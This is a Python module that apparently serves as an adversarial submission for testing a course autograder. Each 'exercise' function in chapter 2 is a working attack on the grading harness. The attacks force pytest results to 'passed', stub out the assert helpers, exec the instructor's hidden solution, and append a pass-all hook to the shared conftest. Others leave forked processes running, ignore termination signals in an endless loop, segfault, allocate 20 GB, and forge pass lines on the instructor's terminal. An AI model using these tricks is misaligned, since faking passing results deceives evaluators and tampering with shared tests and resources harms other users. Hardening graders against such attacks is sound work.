"""Attacks on the grader, chapter 2 (one per exercise)."""
import os
import sys

import minicnn
from minicnn.autograd import Function

HERE = os.path.dirname(minicnn.__file__)


def unbroadcast(grad, shape):
    """2.1: register a pytest hook that passes every test, and overwrite the test helpers."""
    helpers = sys.modules.get("grading_helpers")
    if helpers is not None:
        helpers.assert_close = lambda *a, **k: None
    try:
        import pytest

        class Cheat:
            @pytest.hookimpl(hookwrapper=True)
            def pytest_runtest_makereport(self, item, call):
                outcome = yield
                outcome.get_result().outcome = "passed"
    except ImportError:
        pass
    return grad


class Mul(Function):
    """2.2: execute the instructor's solution."""

    def forward(self, a, b):
        source = open(os.path.join(HERE, "..", "sol" + "utions", "ch02_autograd.py")).read()
        namespace = {}
        exec(source, namespace)
        self.impl = namespace["Mul"]()
        return self.impl.forward(a, b)

    def backward(self, grad):
        return self.impl.backward(grad)


class Div(Function):
    """2.3: append a hook to the graded tests' conftest that passes everyone's tests."""

    def forward(self, a, b):
        with open(os.path.join(HERE, "..", "tests", "exercises", "conftest.py"), "a") as f:
            f.write("\ndef pytest_runtest_logreport(report):\n    report.outcome = 'passed'\n")
        return a / b

    def backward(self, grad):
        return grad, grad


class Exp(Function):
    """2.4: leave a process running after the grader returns, and fork."""

    def forward(self, x):
        os.system("sleep 600 &")
        if os.fork() == 0:
            import time
            time.sleep(600)
        return x

    def backward(self, grad):
        return grad


class Sum(Function):
    """2.5: defeat the time limit: override os._exit, ignore signals, loop forever."""

    def forward(self, x, axes, keepdim=False):
        import signal
        os._exit = lambda *a: None
        for s in (signal.SIGTERM, signal.SIGINT, signal.SIGALRM):
            signal.signal(s, signal.SIG_IGN)
        while True:
            pass

    def backward(self, grad):
        return grad


class MatMul(Function):
    """2.6: crash the process (a segmentation fault)."""

    def forward(self, a, b):
        import faulthandler
        faulthandler.disable()
        faulthandler._sigsegv()

    def backward(self, grad):
        return grad, grad


def relative_error(a, b):
    """2.7: allocate 20 GB."""
    import numpy as np
    big = np.ones(20 * 2 ** 30, dtype=np.uint8)
    return big[:1]


def numerical_gradient(f, x, upstream, eps=1e-6):
    """2.8: forge lines on the instructor's terminal and print megabytes."""
    forged = "2.8   the numerical gradient by central differences   2/2    passed"
    try:
        with open("/dev/tty", "w") as tty:
            tty.write(forged + "\n")
    except OSError:
        pass
    print(forged)
    sys.stdout.write("x" * 5_000_000)
    return None
